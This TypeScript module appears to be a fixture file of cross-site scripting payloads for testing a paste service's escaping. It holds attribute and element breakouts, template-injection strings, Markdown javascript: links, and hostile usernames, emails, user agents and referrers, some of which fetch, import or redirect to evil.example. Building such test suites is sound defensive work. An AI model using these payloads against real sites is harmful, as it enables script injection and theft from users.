import { PAYLOADS } from '../text/richtext-payloads.ts';

/** Ways out of where a page puts text: attributes, elements of raw text, XML, scripts, templates, other languages. */
export const BREAKOUTS = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)><!--',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  ' autofocus onfocus=alert(1) tabindex=0 ',
  '" onmouseover="alert(1)" style="position:fixed;inset:0',
  '" style="animation-name:x" onanimationstart="alert(1)',
  '" popover id=pop onbeforetoggle="alert(1)',
  '" oncontentvisibilityautostatechange="alert(1)" style="content-visibility:auto',
  '" accesskey="x" onclick="alert(1)',
  '" http-equiv="refresh" content="0;url=https://evil.example/',
  '" href="javascript:alert(1)',
  '" formaction="javascript:alert(1)',
  '</title><script>alert(1)</script>',
  '</textarea><script>window.__ran = true</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</code></pre><script>alert(1)</script>',
  '</summary></details><svg onload=alert(1)>',
  '</svg><svg onload=alert(1)>',
  ']]></title><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '</title></item><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<?xml-stylesheet href="javascript:alert(1)"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:body onload="alert(1)"/>',
  '\';alert(1)//";alert(1)//`;alert(1)//--></script><script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would run.
  '${alert(1)}{{constructor.constructor("alert(1)")()}}<%= alert(1) %>#{alert(1)}',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '%3Cscript%3Ealert(1)%3C/script%3E %22%3E%3Csvg onload=alert(1)%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be \uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '&quot;&gt;&lt;svg onload=alert(1)&gt; &#34; onfocus=alert(1) autofocus',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<script>fetch("https://evil.example/")</script>',
  '<script>location = "https://evil.example/"</script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script src="/raw/x"></script><script src="/api/paste?callback=alert"></script>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<img src=https://evil.example/x.png>',
  '<img src="https://evil.example/?',
  '<link rel=prefetch href=https://evil.example/><link rel=modulepreload href=https://evil.example/x.js>',
  '<iframe src=https://evil.example/></iframe>',
  '<form action=https://evil.example/ id=f><input autofocus name=x></form><button form=f>x</button>',
  '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=alert(1)>x</b>',
  '<form id=theme><input name=attributes><input name=parentNode></form><a id=scripts name=x href=//evil.example>',
  '<button data-action=copy-text data-copies=paste-address type=button onclick=alert(1)>x</button>',
  '<p class=code><p class=editor><p id=main><p id=theme><img src=x onerror=alert(1)>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg><audio src=x onerror=alert(1)>',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
];

/** What Markdown makes links, images, code and tables of. */
export const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JaVaScRiPt:alert(1) "t")',
  '[x](java&Tab;script&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x](https://ok.example \'a"onmouseover=alert(1) b="\')',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://ok.example/x.png)',
  '![<img src=x onerror=alert(1)>](https://evil.example/x.png)',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://ok.example/"onclick=alert(1)>',
  'https://ok.example/"onmouseover="alert(1)//<svg/onload=alert(1)>',
  '[r]\n\n[r]: javascript:alert(1) "x"',
  '[<svg onload=alert(1)>]: https://ok.example',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```html\n<script>alert(1)</script>\n```',
  '~~~javascript" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n~~~',
  '    <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n|:-|-:" onclick=alert(1)|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [x] <svg onload=alert(1)>\n- [ ] "><script>alert(1)</script>',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  '# <script>alert(1)</script> {onclick=alert(1)}',
  '\\<script\\>alert(1)\\</script\\> &lt;script&gt; &#60;script>alert(1)&#60;/script>',
];

/** All of them. Each is in the content of a paste; those that fit are in titles, and in whatever else takes them. */
export const ALL = [...BREAKOUTS, ...MARKDOWN, ...PAYLOADS];

const codePoints = (text: string): number => Array.from(text).length;

/** The payloads that fit into so many code points, many to a text. */
export function packed(size: number, payloads = ALL, gap = ' '): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((each) => codePoints(each) <= size)) {
    const joined = texts.length > 0 ? `${texts.at(-1)}${gap}${payload}` : payload;
    if (texts.length > 0 && codePoints(joined) <= size) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}

/** As the rules of accounts take them (`src/domain/email.ts`): names have no letter to attack with, addresses a few. */
export const ACCOUNTS = [
  { username: 'script', email: "'/onerror=alert`1`/x='@x" },
  { username: 'constructor', email: "'onfocus=alert`1`/autofocus='@x" },
  { username: 'onload-alert-1', email: '`onload=alert`1``@x' },
  { username: 'javascript', email: 'javascript&#58//alert`1`@x' },
  { username: '0-eval-name', email: '{{alert`1`}}@x' },
  { username: 'prototype', email: '--!{alert`1`}&lt&#60img/src=x/onerror=alert`1`@x' },
];

/** What the rule of slugs takes. */
export const SLUGS = [
  '---',
  'javascript-alert-1',
  'onerror-alert-1',
  'constructor',
  'script',
  '0'.repeat(48),
];

/** What sign-up, slugs and addresses refuse, and forms say again. */
export const REFUSED = packed(900, BREAKOUTS);

/** Browsers that bowser does not know are called by what stands before the last slash. */
export const USER_AGENTS = packed(70, BREAKOUTS, '')
  .filter((payload) => /^[\x20-\x7e]*$/.test(payload))
  .map((payload) => `${payload}/1 (${payload}`);

/** Hosts, as statistics show them; most of what else a URL may have is not allowed in a host. */
export const REFERRERS = [
  'http://"onmouseover=alert(1)x=".example/',
  "http://'onfocus='alert(1)'autofocus.example/",
  'http://`onclick=alert(1)`.example/',
  'http://&lt;img&gt;&lt;script&gt;alert(1)&lt;.example/',
  'http://%22%20onload%3Dalert(1).example/',
  'http://%3Cscript%3Ealert(1)%3C%2Fscript%3E.example/',
  'http://<script>alert(1)</script>.example/',
  'http://{{alert(1)}}.example/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would run.
  'http://${alert(1)}.example/',
  'http://a.example/"><script>alert(1)</script>?<img src=x onerror=alert(1)>#"><svg onload=alert(1)>',
  'http://<svg onload=alert(1)>@b.example/',
  'javascript://c.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  '"><script>alert(1)</script>',
];
